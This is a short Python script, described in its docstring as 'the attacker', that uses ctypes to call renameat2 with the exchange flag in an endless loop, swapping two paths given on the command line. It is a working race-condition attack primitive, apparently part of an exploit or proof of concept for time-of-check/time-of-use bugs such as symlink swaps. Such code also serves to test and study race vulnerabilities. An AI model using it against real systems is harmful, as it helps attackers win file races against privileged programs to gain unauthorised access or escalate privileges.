"""The attacker where there is no C compiler: exchanges two names for ever, if more slowly."""

from __future__ import annotations

import ctypes
import os
import sys


def main() -> None:
    first, second = (os.fsencode(name) for name in sys.argv[1:])
    libc = ctypes.CDLL(None)
    while True:
        libc.renameat2(-100, first, -100, second, 2)


if __name__ == "__main__":
    main()
